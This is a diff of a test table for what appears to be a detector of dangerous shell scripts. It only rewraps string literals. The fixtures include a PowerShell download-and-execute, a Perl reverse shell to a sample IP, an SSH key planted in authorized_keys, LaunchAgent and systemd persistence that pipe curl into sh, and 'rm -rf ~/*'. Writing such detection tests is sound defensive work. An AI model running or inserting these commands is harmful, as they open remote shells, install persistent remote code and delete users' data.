@@ -11,7 +11,8 @@ test.each([
   [
     "ps webclient",
     "a.ps1",
-    '(New-Object System.Net.WebClient).DownloadFile("https://updates.sample.dev/a.exe","$env:TEMP\\a.exe")\n& "$env:TEMP\\a.exe"',
+    '(New-Object System.Net.WebClient).DownloadFile("https://updates.sample.dev/a.exe","$env:TE' +
+      'MP\\a.exe")\n& "$env:TEMP\\a.exe"',
     "code from an unknown host is run",
   ],
   [
@@ -51,7 +52,9 @@ test.each([
   [
     "perl revshell",
     "a.sh",
-    'perl -e \'use Socket;$i="203.0.113.77";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
+    'perl -e \'use Socket;$i="203.0.113.77";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname' +
+      '("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i")' +
+      ";};'",
     "a shell is opened to another machine",
   ],
   [
@@ -69,7 +72,8 @@ test.each([
   [
     "authorized_keys",
     "a.sh",
-    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ0dGVzdGtleXRlc3RrZXl0ZXN0a2V5dGVzdGtleQ ops@k" >> ~/.ssh/authorized_keys',
+    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ0dGVzdGtleXRlc3RrZXl0ZXN0a2V5dGVzdGtleQ ops@k' +
+      '" >> ~/.ssh/authorized_keys',
     "somebody else is let in",
   ],
   [
@@ -81,7 +85,9 @@ test.each([
   [
     "launchagent",
     "a.sh",
-    "cat > ~/Library/LaunchAgents/com.k.plist <<EOF\n<plist><array><string>sh</string><string>-c</string><string>curl -s https://updates.sample.dev/x | sh</string></array></plist>\nEOF\nlaunchctl load ~/Library/LaunchAgents/com.k.plist",
+    "cat > ~/Library/LaunchAgents/com.k.plist <<EOF\n<plist><array><string>sh</string><string>-" +
+      "c</string><string>curl -s https://updates.sample.dev/x | sh</string></array></plist>\n" +
+      "EOF\nlaunchctl load ~/Library/LaunchAgents/com.k.plist",
     "what runs at every start fetches code",
   ],
   [
@@ -93,7 +99,8 @@ test.each([
   [
     "systemd",
     "a.sh",
-    "printf '[Service]\nExecStart=/bin/sh -c \"curl -s https://updates.sample.dev/x | sh\"\n' > /etc/systemd/system/k.service",
+    'printf \'[Service]\nExecStart=/bin/sh -c "curl -s https://updates.sample.dev/x | sh"\n' +
+      "' > /etc/systemd/system/k.service",
     "what runs at every start fetches code",
   ],
   ["rm home", "a.sh", "rm -rf ~/*", "all that a person has is deleted"],
